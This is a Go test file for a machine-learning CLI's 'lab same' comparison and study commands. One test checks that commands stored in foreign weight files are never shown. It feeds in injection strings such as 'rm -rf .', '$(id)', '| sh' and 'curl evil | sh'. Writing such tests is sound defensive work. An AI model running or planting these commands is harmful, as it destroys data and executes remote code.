package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/heft-ml/heft/inspect"
	"github.com/heft-ml/heft/lab/same"
)

func TestLabSameTrainsTwoAndComparesTheirFilesAgain(t *testing.T) {
	t.Parallel()
	dir, again := filepath.Join(t.TempDir(), "same"), filepath.Join(t.TempDir(), "again")
	code, out, errs := command("lab", "same", "--depth", "2", "--width", "16", "--steps", "200", "--out", dir)
	require.Equal(t, exitOK, code, errs)
	assert.Contains(t, out, "A is moons, B is circles. The blueprint is the same")
	assert.Contains(t, out, "A WITH B'S LAYER")
	assert.Contains(t, errs, "100%  400 of 400 steps")
	for _, name := range []string{"report.html", "boundary.svg", "weights.csv", "swaps.svg", "a.safetensors", "b.safetensors"} {
		assert.FileExists(t, filepath.Join(dir, name))
	}
	a, err := os.Stat(filepath.Join(dir, "a.safetensors"))
	require.NoError(t, err)
	b, err := os.Stat(filepath.Join(dir, "b.safetensors"))
	require.NoError(t, err)
	assert.Equal(t, a.Size(), b.Size())

	first, second := filepath.Join(dir, "a.safetensors"), filepath.Join(dir, "b.safetensors")
	code, out, errs = command("lab", "same", first, second, "--out", again)
	require.Equal(t, exitOK, code, errs)
	const made = "'heft lab same --depth 2 --width 16 --steps 200'"
	flowing := strings.Join(strings.Fields(out), " ")
	assert.Contains(t, flowing, "the two agree on")
	for _, name := range []string{"outputs.csv", "representations.csv", "swaps.csv"} {
		want, err := os.ReadFile(filepath.Join(dir, name))
		require.NoError(t, err)
		got, err := os.ReadFile(filepath.Join(again, name))
		require.NoError(t, err)
		named := strings.NewReplacer(first, "moons", second, "circles").Replace(string(got))
		assert.Equal(t, string(want), named, "the files say the same of themselves as the training did")
	}
	assert.FileExists(t, filepath.Join(again, "spectrum.svg"))
	assert.NoFileExists(t, filepath.Join(again, "a.safetensors"))

	code, out, errs = command("inspect", first)
	require.Equal(t, exitOK, code, errs)
	assert.Contains(t, strings.Join(strings.Fields(out), " "), strings.Trim(made, "'"))
	for _, verb := range []string{"reproduce", "eval"} {
		code, _, errs = command(verb, first)
		assert.Equal(t, exitFailed, code)
		assert.Contains(t, errs, "a.safetensors\" is no run of 'heft train': "+made+" makes it again", verb)
	}
}

func TestLabSameOfForeignWeightsSaysThatTheyHaveNoRecipe(t *testing.T) {
	t.Parallel()
	out := filepath.Join(t.TempDir(), "report")
	file := weights(t, nil)
	code, text, errs := command("lab", "same", file, file, "--out", out)
	require.Equal(t, exitOK, code, errs)
	assert.Contains(t, strings.Join(strings.Fields(text), " "), "other.safetensors has no recipe of a run.")
}

// Whatever a foreign file has in place of the command, no reader is told to run it.
func TestCommandsOfForeignFilesAreNotShown(t *testing.T) {
	t.Parallel()
	shown := func(line string) (command string, ok bool) {
		f, err := inspect.Open(weights(t, map[string]string{same.CommandKey: line}))
		require.NoError(t, err)
		defer f.Close()
		return labCommand(f)
	}
	data := same.DefaultPair()
	data.Data = [2]string{"csv:it's mine.csv", "moons"}
	for _, line := range []string{same.DefaultPair().Command(), data.Command(), "heft lab same --data 'csv:my; table.csv' --lr 1e-3"} {
		command, ok := shown(line)
		assert.True(t, ok, line)
		assert.Equal(t, line, command)
	}
	for _, line := range []string{
		"", "rm -rf .", "heft lab same; rm -rf .", "heft lab same --data moons;id", "heft lab same $(id)", "heft lab same `id`", "heft lab same 'a' | sh", "heft lab same > x",
		"heft lab same '", "heft lab same \\;id", "heft lab same\nid", "heft lab same '\n'", "heft lab same '\x1b[2J'", "heft lab samesame", "heft lab same " + strings.Repeat("a", longestCommand),
	} {
		_, ok := shown(line)
		assert.False(t, ok, line)
	}
	code, _, errs := command("eval", weights(t, map[string]string{same.CommandKey: "curl evil | sh"}))
	assert.NotEqual(t, exitOK, code)
	assert.NotContains(t, errs, "evil")
}

func TestLabSameComparesRuns(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for seed, name := range map[string]string{"1": "one", "2": "two"} {
		code, _, errs := command("train", "moons", "--model", "mlp:8", "--epochs", "3", "--seed", seed, "--out", filepath.Join(dir, name), "--quiet")
		require.Equal(t, exitOK, code, errs)
	}
	code, out, errs := command("lab", "same", filepath.Join(dir, "one"), filepath.Join(dir, "two"), "--out", filepath.Join(dir, "report"))
	require.Equal(t, exitOK, code, errs)
	flowing := strings.Join(strings.Fields(out), " ")
	assert.Contains(t, flowing, "the two agree on")
	assert.FileExists(t, filepath.Join(dir, "report", "boundary.svg"))
	assert.FileExists(t, filepath.Join(dir, "report", "representations.csv"))

	code, _, errs = command("train", "moons", "--model", "mlp:9", "--epochs", "1", "--out", filepath.Join(dir, "other"), "--quiet")
	require.Equal(t, exitOK, code, errs)
	code, _, errs = command("lab", "same", filepath.Join(dir, "one"), filepath.Join(dir, "other"), "--out", filepath.Join(dir, "none"))
	assert.Equal(t, exitFailed, code)
	assert.Contains(t, errs, "not of one architecture")
}

// To a run of numbers about 2 all numbers about 102 are high, and to the other all about 2 are low.
func TestLabSameScalesTheOthersDataAsEachRunLearned(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	run := func(name, rows string) string {
		table, out := filepath.Join(dir, name+".csv"), filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(table, []byte("x,y\n"+strings.Repeat(rows, 40)), 0o666))
		code, _, errs := command("train", "csv:"+table, "--target", "y", "--model", "mlp:4", "--epochs", "60", "--lr", "0.05", "--out", out, "--quiet")
		require.Equal(t, exitOK, code, errs)
		return out
	}
	out := filepath.Join(dir, "report")
	code, text, errs := command("lab", "same", run("two", "1,low\n3,high\n"), run("hundred", "101,low\n103,high\n"), "--out", out)
	require.Equal(t, exitOK, code, errs)
	scores, err := os.ReadFile(filepath.Join(out, "outputs.csv"))
	require.NoError(t, err)
	for _, want := range []string{"two,two.csv,1\n", "hundred,two.csv,0.5\n", "two,hundred.csv,0.5\n", "hundred,hundred.csv,1\n"} {
		assert.Contains(t, string(scores), want, text)
	}
}

func TestLabSameRefusesWhatItCannotDo(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"lab same one":                     "give two files or none, not 1",
		"lab same a b c":                   "give two files or none, not 3",
		"lab same a b --depth 3":           "--depth is of networks that are trained on the spot",
		"lab same --data moons --seeds 3":  "the same bits",
		"lab same --data moons,xor,spiral": "--data has 3 names",
		"lab same --seeds 1,2,3":           "--seeds has 3 numbers",
		"lab same --data moons,banana":     "banana",
		"lab same --residual dense":        `residual is "dense"`,
		"lab same --jobs 0":                "--jobs is 0",
	} {
		code, out, errs := command(strings.Fields(line)...)
		assert.Equal(t, exitUsage, code, line)
		assert.Empty(t, out, line)
		assert.Contains(t, errs, want, line)
	}
	code, _, errs := command("lab", "same", "none-a.safetensors", "none-b.safetensors", "--out", filepath.Join(t.TempDir(), "report"))
	assert.Equal(t, exitFailed, code)
	assert.Contains(t, errs, "none-a.safetensors")
}

func TestForcedStudiesReplaceOneAnother(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "study")
	code, _, errs := command(strings.Fields("lab init -q --data xor --depth 1 --width 4 --steps 0 --seeds 1 --schemes zeros --out " + dir)...)
	require.Equal(t, exitOK, code, errs)
	assert.FileExists(t, filepath.Join(dir, "signal.svg"))
	code, _, errs = command(strings.Fields("lab theory -q --depth 1 --width 4 --nets 30 --schemes orthogonal --force --out " + dir)...)
	require.Equal(t, exitOK, code, errs)
	assert.NoFileExists(t, filepath.Join(dir, "signal.svg"))
	assert.NoFileExists(t, filepath.Join(dir, "boundary.csv"))
	assert.FileExists(t, filepath.Join(dir, "activations.svg"))
}

func TestLabMergeDoesNotWriteIntoWhatIsThereUnasked(t *testing.T) {
	t.Parallel()
	whole, out := filepath.Join(t.TempDir(), "whole"), filepath.Join(t.TempDir(), "out")
	code, _, errs := command(sweepLine("--out", whole, "--quiet")...)
	require.Equal(t, exitOK, code, errs)
	for i, want := range []int{exitOK, exitFailed} {
		code, _, errs = command("lab", "merge", whole, "--out", out)
		assert.Equal(t, want, code, "%d: %s", i, errs)
	}
	assert.Contains(t, errs, out+" holds a report already: choose another --out, or write into it with --force")
	code, _, errs = command("lab", "merge", whole, "--out", out, "--force")
	assert.Equal(t, exitOK, code, errs)
	code, _, errs = command("lab", "merge", whole)
	assert.Equal(t, exitOK, code, errs)
}

func TestResidualNetworksInEveryStudy(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"lab init -q --residual plain --data xor --depth 3 --width 8 --steps 20 --seeds 1":                                             "zero residual",
		"lab theory -q --residual pre-norm --depth 2 --width 16 --nets 30":                                                             "GPT-2",
		"lab sweep -q --residual deepnet --data xor --depths 1,2 --widths 8 --schemes deepnet,xavier-normal --steps 20 --seeds 1":      "deepnet",
		"lab same -q --residual post-norm --depth 2 --width 8 --steps 20":                                                              "blocks.0.up.weight",
		"lab init -q --residual pre-norm --data xor --depth 2 --width 8 --steps 5 --seeds 1 --schemes tfixup-encoder,mup(8),gpt2(0.1)": "tfixup-encoder",
	} {
		dir := filepath.Join(t.TempDir(), "study")
		code, out, errs := command(append(strings.Fields(line), "--out", dir)...)
		require.Equal(t, exitOK, code, "%s: %s", line, errs)
		assert.Contains(t, out, want, line)
		page, err := os.ReadFile(filepath.Join(dir, "report.html"))
		require.NoError(t, err)
		assert.Contains(t, string(page), "residual block", line)
		assert.Contains(t, commandsOn(page), "--residual ", line)
	}
}
